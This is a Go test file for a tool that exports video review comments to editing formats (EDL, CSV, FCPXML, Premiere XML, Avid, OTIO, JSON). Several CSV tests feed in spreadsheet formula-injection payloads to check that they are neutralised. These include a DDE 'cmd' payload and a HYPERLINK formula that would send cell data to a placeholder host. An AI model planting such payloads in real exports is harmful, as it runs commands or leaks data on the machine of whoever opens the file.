package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/framebridge/framebridge/mapping"
)

var (
	now  = time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)
	ntsc = mapping.Rate{Num: 30000, Den: 1001}
	film = mapping.Rate{Num: 24, Den: 1}
)

func at(f int64) *int64 { return &f }

func clips() []Clip {
	return []Clip{{Name: "A001.mov", AssetID: "a1", Rate: ntsc, StartTimecode: "00:59:59;28", Frames: 3600, Comments: []Comment{
		{ID: "1", Author: "Rita", Email: "rita@client.example", Text: "Too | dark", Frame: at(1800), Frames: 30, CreatedAt: now},
		{ID: "2", Parent: "1", Author: "Ed", Text: "Fixed", CreatedAt: now.Add(time.Minute)},
		{ID: "3", Author: "Rob", Text: "=Nice work", Completed: true, CreatedAt: now},
		{ID: "4", Author: "Rob", Text: "First frame", Frame: at(0), CreatedAt: now},
	}}}
}

func one(text, author string) []Clip {
	return []Clip{{Name: "Trailer v3.mov", AssetID: "a-1", Rate: mapping.Rate{Num: 24000, Den: 1001}, StartTimecode: "01:00:00:00", Frames: 2000,
		Comments: []Comment{{ID: "c1", Author: author, Text: text, Frame: at(10)}, {ID: "c2", Author: "Ed", Text: "plain", Frame: at(20)}}}}
}

func written(t testing.TB, format, title string, clips []Clip) []byte {
	f, ok := Find(format)
	require.True(t, ok, format)
	var b bytes.Buffer
	require.NoError(t, f.Write(&b, title, clips), format)
	return b.Bytes()
}

func TestEDL(t *testing.T) {
	assert.Equal(t, `TITLE: Spot 30
FCM: DROP FRAME

001  001      V     C        00:59:59;28 00:59:59;29 00:59:59;28 00:59:59;29
[whole clip] =Nice work / First frame |C:ResolveColorBlue |M:Rob |D:1

002  001      V     C        01:00:59;28 01:01:01;00 01:00:59;28 01:01:01;00
Too ¦ dark / ↳ Ed: Fixed |C:ResolveColorBlue |M:Rita |D:30

`, string(written(t, "edl", "Spot 30", clips())))
}

func TestEDLNotesAreNoStatements(t *testing.T) {
	for _, text := range []string{"2 frames too long", "3. Music late", "1080p only?", "FCM: DROP FRAME is wrong", "TITLE: placeholder", "SPLIT: AUDIO DELAY= 1", "* star", "M2 A 24",
		"a\n001  001 V C 00:00:00:00 00:00:00:01 00:00:00:00 00:00:00:01", "a\x1e2 b", "a\u20283 c", "|C:x |M:y |D:9", "", ">>> x"} {
		_, events, err := readCMX(string(written(t, "edl", text, one(text, text))))
		require.NoError(t, err, "%q", text)
		require.Len(t, events, 2, "%q", text)
		assert.Equal(t, int64(1), events[0].length)
		for _, word := range strings.FieldsFunc(text, func(r rune) bool { return r == '|' || r <= ' ' || r == '\u2028' }) {
			assert.Contains(t, events[0].note, word)
		}
	}
}

func TestClipsOfOneTimecodeDoNotCollide(t *testing.T) {
	slow, fast := one("a", "Rita")[0], one("b", "Rita")[0]
	fast.Name, fast.Rate, fast.StartTimecode = "fast.mov", mapping.Rate{Num: 60, Den: 1}, "01:00:00:00"
	fast.Comments[0].Frame, fast.Comments[1].Frame = at(11), at(12) // one frame at 24
	sound := one("c", "Rita")[0]
	sound.Name, sound.Rate, sound.Frames, sound.Audio = "sound.wav", mapping.Rate{}, 0, true
	list := []Clip{slow, one("again", "Rita")[0], fast, sound}
	_, events, err := readCMX(string(written(t, "edl", "x", list)))
	require.NoError(t, err)
	rows, err := readAvid(string(written(t, "txt", "x", list)))
	require.NoError(t, err)
	require.Len(t, events, 7)
	require.Len(t, rows, 7)
	seen := map[string]bool{}
	for i, e := range events {
		assert.False(t, seen[e.recordIn], "two events at %s", e.recordIn)
		seen[e.recordIn] = true
		assert.Equal(t, e.recordIn, rows[i][1])
	}
	assert.Equal(t, "[Trailer v3.mov 01:00:00:10] again", events[2].note)
	assert.Equal(t, "[fast.mov 01:00:00:11] b / Ed: plain", events[4].note)
	long := []Clip{slow, slow}
	long[0].Frames = 24 * 3600 * 24
	assert.ErrorIs(t, EDL(&bytes.Buffer{}, "x", long), ErrTooLong)
}

func TestCSV(t *testing.T) {
	rows, err := readRFC4180(string(written(t, "csv", "", clips())))
	require.NoError(t, err)
	assert.Equal(t, "'=Nice work", rows[1][8], "no spreadsheet takes it for a formula")
	assert.Equal(t, []string{"A001.mov", "01:00:59;28", "01:01:00;29", "1800", "30", "", "Rita", "rita@client.example", "Too | dark", "", "no", "no", "2026-11-24T12:00:00Z", "1"}, rows[3])
}

func TestCellsAreNoFormulas(t *testing.T) {
	for _, text := range []string{`=cmd|'/c calc'!A0.mov`, `=HYPERLINK("http://x.example/?"&A1,"Rita")`, "@rita", "+1", "-1", "\tx", "\rx", "\nx", " =1+1.mov", "\n=1+1", "＝1", "＋1", "－1", "＠x",
		"\u00a0=1", "\u200b=1", "\x00=1", "\x1b=1"} {
		assert.Equal(t, "'", Cell(text)[:1], "%q", text)
		c := one(text, text)
		c[0].Name, c[0].Comments[0].Email = text, text
		rows, err := readRFC4180(string(written(t, "csv", "", c)))
		require.NoError(t, err)
		for _, i := range []int{0, 6, 7, 8} {
			assert.Equal(t, "'", rows[1][i][:1], "%q in column %d", text, i)
		}
	}
	for _, text := range []string{"plain", "a=b", "Ärger", "", "'quoted", "2-3"} {
		assert.Equal(t, text, Cell(text))
	}
}

// A spreadsheet may split at semicolons or tabs, even inside quotes. None of the resulting cells may be a formula, and without the
// apostrophes the text must be as typed.
func TestCellsAreNoFormulasWhereverTheyAreSplit(t *testing.T) {
	for _, text := range []string{"a;=1+1", "a;;=1", "a;\u00a0=1", "a; \u200b@x", "a;\"=1+1\"", "a\t+1", "a\t\t=1", "list:\n=1+1", "a;\n-1", "a;＝1", "a;\x00=1", "\";=1", ";=1;-2;+3", "a;\"\"\"=cmd|'/c calc'!A0"} {
		c := one(text, text)
		c[0].Name, c[0].Comments[0].Email = text, text
		doc := string(written(t, "csv", "", c))
		for _, separator := range []string{";", "\t"} {
			for _, cell := range splitLikeASpreadsheet(doc, separator) {
				assert.NotContains(t, formulas, firstRune(strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) })), "%q split at %q: %q", text, separator, cell)
			}
		}
		rows, err := readRFC4180(doc)
		require.NoError(t, err)
		for _, i := range []int{0, 6, 7, 8} {
			assert.Equal(t, strings.ReplaceAll(Text(text), "'", ""), strings.ReplaceAll(rows[1][i], "'", ""), "the text is whole")
		}
	}
	for _, text := range []string{"a; b", "a;1", "a;b-c", "a\tb", "one\ntwo", "1;2;3"} {
		assert.Equal(t, text, Cell(text))
	}
}

func firstRune(s string) string {
	for _, r := range s {
		return string(r)
	}
	return "none"
}

// splitLikeASpreadsheet respects quotes only at the beginning of a cell, and takes what follows the closing one for text.
func splitLikeASpreadsheet(doc, separator string) (cells []string) {
	cell, quoted, begun := "", false, false
	end := func() { cells, cell, quoted, begun = append(cells, cell), "", false, false }
	for i := 0; i < len(doc); i++ {
		switch c := doc[i : i+1]; {
		case quoted && strings.HasPrefix(doc[i:], `""`):
			cell += c
			i++
		case quoted && c == `"`:
			quoted = false
		case quoted:
			cell += c
		case c == separator || c == "\n" || c == "\r":
			end()
		case c == `"` && !begun:
			quoted, begun = true, true
		default:
			cell, begun = cell+c, true
		}
	}
	end()
	return cells
}

func TestFCPXML(t *testing.T) {
	doc := written(t, "fcpxml", "Spot & Co", clips())
	root, err := readFCPXML(doc)
	require.NoError(t, err)
	first, _, err := mapping.ParseTimecode("00:59:59;28", ntsc)
	require.NoError(t, err)
	markers := root.all("marker")
	require.Len(t, markers, 2)
	assert.Equal(t, map[string]string{"start": seconds(first+1800, ntsc), "duration": "30030/30000s", "value": "Too | dark / ↳ Ed: Fixed", "completed": "0",
		"note": "Rita: Too | dark\n↳ Ed: Fixed"}, markers[1].attrs)
	assert.Contains(t, string(doc), `frameDuration="1001/30000s"`)
	assert.Contains(t, string(doc), `tcFormat="DF"`)
}

func TestMarkersLieWithinClipsOfUnknownLength(t *testing.T) {
	for name, c := range map[string]Clip{
		"audio": {Name: "mix.wav", Audio: true}, "video": {Name: "phone.mov", Rate: mapping.Rate{Num: 1501, Den: 50}}, "short": {Name: "s.mov", Rate: film, Frames: 5},
		"absurd": {Name: "a.mov", Rate: film, Comments: []Comment{{ID: "x", Frame: at(1 << 60), Frames: 1 << 60}, {ID: "y", Frame: at(-5)}}},
	} {
		c.Comments = append(c.Comments, Comment{ID: "1", Text: "a", Frame: at(10)}, Comment{ID: "2", Text: "b", Frame: at(1990), Frames: 20})
		root, err := readFCPXML(written(t, "fcpxml", "x", []Clip{c}))
		require.NoError(t, err, name)
		assert.Equal(t, c.Audio, root.all("asset")[0].attrs["hasVideo"] == "", name)
		assert.Equal(t, c.Audio, root.all("asset")[0].attrs["hasAudio"] == "1", name)
		other, err := readXML(written(t, "xml", "x", []Clip{c}), xmemlDTD)
		require.NoError(t, err, name)
		assert.Equal(t, c.Audio, len(other.all("video")) == 0, name)
	}
}

func TestPremiere(t *testing.T) {
	doc := written(t, "xml", "Spot <30>", append(clips(), one("2 & 3", "Rita")...))
	root, err := readXML(doc, xmemlDTD)
	require.NoError(t, err)
	assert.Contains(t, string(doc), "<!DOCTYPE xmeml>")
	sequences := root.all("sequence")
	require.Len(t, sequences, 2)
	tc := sequences[0].all("timecode")[0]
	assert.Equal(t, []string{"00:59:59;28", "DF"}, []string{tc.child("string"), tc.child("displayformat")})
	assert.Equal(t, "TRUE", sequences[1].all("rate")[0].child("ntsc"))
	assert.Equal(t, "24", sequences[1].all("rate")[0].child("timebase"))
	markers := sequences[0].all("marker")
	require.Len(t, markers, 2)
	assert.Equal(t, []string{"Rita", "Too | dark / ↳ Ed: Fixed", "1800", "1830"}, []string{markers[1].child("name"), markers[1].child("comment"), markers[1].child("in"), markers[1].child("out")})
	assert.Equal(t, "-1", markers[0].child("out"))
}

func TestAvid(t *testing.T) {
	rows, err := readAvid(string(written(t, "txt", "x", clips())))
	require.NoError(t, err)
	assert.Equal(t, [][]string{{"Rob", "00:59:59;28", "V1", "red", "[whole clip] =Nice work / First frame", "1"}, {"Rita", "01:00:59;28", "V1", "red", "Too | dark / ↳ Ed: Fixed", "30"}}, rows)
}

func TestOTIO(t *testing.T) {
	got, err := readOTIO(written(t, "otio", "Spot", clips()))
	require.NoError(t, err)
	require.Len(t, got, 1)
	markers, _ := got[0]["markers"].([]any)
	require.Len(t, markers, 2)
	m, _ := markers[1].(map[string]any)
	first, _, err := mapping.ParseTimecode("00:59:59;28", ntsc)
	require.NoError(t, err)
	raw, err := json.Marshal(m["marked_range"])
	require.NoError(t, err)
	rate := 30000.0 / 1001
	assert.JSONEq(t, fmt.Sprintf(`{"OTIO_SCHEMA":"TimeRange.1","start_time":{"OTIO_SCHEMA":"RationalTime.1","rate":%v,"value":%d},"duration":{"OTIO_SCHEMA":"RationalTime.1","rate":%v,"value":30}}`, rate, first+1800, rate), string(raw))
	assert.Contains(t, fmt.Sprint(m["metadata"]), "rita@client.example")
	assert.Equal(t, "Rita: Too | dark\n↳ Ed: Fixed", m["comment"])
}

func TestJSON(t *testing.T) {
	b := string(written(t, "json", "", clips()))
	assert.Contains(t, b, `"timecode_in": "01:00:59;28"`)
	assert.Contains(t, b, `"milliseconds": 60060`)
}

func TestNothingToExport(t *testing.T) {
	for _, f := range Formats {
		require.NoError(t, f.Write(&bytes.Buffer{}, "", nil), f.Extension)
		require.NoError(t, f.Write(&bytes.Buffer{}, "", []Clip{{}}), f.Extension)
	}
}

// readBack reads every format of some clips with its own reader, and counts what arrived.
func readBack(t testing.TB, title string, list []Clip) {
	comments, frames := 0, 0
	for _, c := range list {
		comments += len(c.Comments)
		frames += len(c.markers())
	}
	rows, err := readRFC4180(string(written(t, "csv", title, list)))
	require.NoError(t, err)
	require.Len(t, rows, comments+1)
	again, err := csv.NewReader(bytes.NewReader(written(t, "csv", title, list))).ReadAll()
	require.NoError(t, err)
	require.Equal(t, rows, again)
	for _, row := range rows {
		for _, cell := range row {
			require.False(t, startsWith(strings.TrimSpace(cell), formulas), "%q", cell)
		}
	}
	_, events, err := readCMX(string(written(t, "edl", title, list)))
	require.NoError(t, err)
	marks, err := readAvid(string(written(t, "txt", title, list)))
	require.NoError(t, err)
	require.Len(t, marks, len(events))
	if len(list) == 1 {
		require.Len(t, events, frames)
	}
	seen := map[string]bool{}
	for _, e := range events {
		require.False(t, seen[e.recordIn], "two events at %s", e.recordIn)
		seen[e.recordIn] = true
	}
	root, err := readFCPXML(written(t, "fcpxml", title, list))
	require.NoError(t, err)
	require.Len(t, root.all("marker"), frames)
	root, err = readXML(written(t, "xml", title, list), xmemlDTD)
	require.NoError(t, err)
	require.Len(t, root.all("marker"), frames)
	got, err := readOTIO(written(t, "otio", title, list))
	require.NoError(t, err)
	require.Len(t, got, len(list))
	require.True(t, json.Valid(written(t, "json", title, list)))
}

var nasty = []rune("aZ09 =+-@|*:;,\"'<>&\\/\t\r\n\v\f\x00\x1b\x1c\x1e\x85\u00a0\u2028\u2029\u202e\u200b\ufffe\uffff＝é日🎬↳¦[]")

func randomText(r *rand.Rand) string {
	if r.IntN(4) == 0 {
		return []string{"FCM: DROP FRAME", "TITLE: x", "M2 A 24", "001  001      V     C        00:00:00:00 00:00:00:01 00:00:00:00 00:00:00:01", "]]>", "<!--", "SPLIT", "\xff\xfe"}[r.IntN(8)]
	}
	var b strings.Builder
	for range r.IntN(20) {
		if r.IntN(30) == 0 {
			b.WriteByte(byte(r.IntN(256)))
		}
		b.WriteRune(nasty[r.IntN(len(nasty))])
	}
	return b.String()
}

func TestRandomTextComesThroughEveryFormat(t *testing.T) {
	rates := []mapping.Rate{{}, film, ntsc, {Num: 1501, Den: 50}, {Num: 60000, Den: 1001}, {Num: 24000, Den: 1001}}
	for seed := range uint64(200) {
		r := rand.New(rand.NewPCG(seed, 7))
		var list []Clip
		for range 1 + r.IntN(3) {
			c := Clip{Name: randomText(r), Rate: rates[r.IntN(len(rates))], StartTimecode: []string{"", "01:00:00:00", "00:59:59;28", "rubbish", "23:59:59:00"}[r.IntN(5)], Frames: r.Int64N(3000), Audio: r.IntN(4) == 0}
			for i := range r.IntN(8) {
				m := Comment{ID: fmt.Sprint(i), Author: randomText(r), Email: randomText(r), Text: randomText(r), Frames: r.Int64N(40), Completed: r.IntN(2) == 0}
				if r.IntN(4) > 0 {
					m.Frame = at(r.Int64N(50))
				}
				if i > 0 && r.IntN(3) == 0 {
					m.Parent = fmt.Sprint(r.IntN(i))
				}
				c.Comments = append(c.Comments, m)
			}
			list = append(list, c)
		}
		readBack(t, randomText(r), list)
		if t.Failed() {
			t.Fatalf("seed %d", seed)
		}
	}
}

func FuzzExports(f *testing.F) {
	for _, text := range []string{"2 frames too long", "=1+1", "FCM: x", "a\n001 x", "]]>", "\xff", "a\u2028b", "\x1c3"} {
		f.Add(text, "Rita", "A.mov", int64(10))
		f.Add("x", text, text, int64(1<<62))
	}
	f.Fuzz(func(t *testing.T, text, author, name string, frame int64) {
		c := one(text, author)
		c[0].Name, c[0].Comments[0].Frame = name, &frame
		readBack(t, text, c)
		readBack(t, text, append(c, one(author, text)...)[:1])
	})
}

func FuzzText(f *testing.F) {
	f.Add("a\r\nb\u2028c")
	f.Add(" =1")
	f.Fuzz(func(t *testing.T, s string) {
		if clean := Text(s); !utf8.ValidString(clean) || Text(clean) != clean {
			t.Fatalf("%q becomes %q", s, clean)
		}
		if line := Line(s); len(splitLines(line)) > 1 || Line(line) != line {
			t.Fatalf("%q becomes %q", s, line)
		}
	})
}
